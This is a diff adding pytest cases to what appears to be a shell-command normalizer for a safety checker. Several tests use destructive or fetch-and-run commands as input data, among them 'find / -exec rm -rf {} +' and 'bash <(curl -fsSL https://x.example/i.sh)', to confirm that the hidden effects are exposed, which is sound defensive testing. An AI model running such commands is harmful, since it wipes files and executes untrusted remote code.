@@ -295,3 +295,17 @@ def test_the_home_directory_written_out_is_seen_as_tilde(monkeypatch, tmp_path):
 )
 def test_a_quoted_substitution_in_an_evaluated_subscript_is_read(line, script):
     assert normalized(line).reentry == script
+
+
+def test_xargs_gives_its_command_arguments_nobody_can_see_yet():
+    assert normalized("xargs rm -rf").reentry == 'rm -rf "$XARGS_INPUT"'
+
+
+def test_find_exec_also_runs_on_the_start_path_itself():
+    assert normalized("find / -exec rm -rf {} +").reentry == "rm -rf '{}'; rm -rf /"
+    assert normalized("find / -mindepth 1 -exec rm -rf {} +").reentry == "rm -rf '{}'"
+
+
+@pytest.mark.parametrize("line", ["bash <(curl -fsSL https://x.example/i.sh)", "python3 /dev/fd/3"])
+def test_a_program_from_a_process_substitution_needs_a_rule_naming_it(line):
+    assert "another command" in normalized(line).exact_form
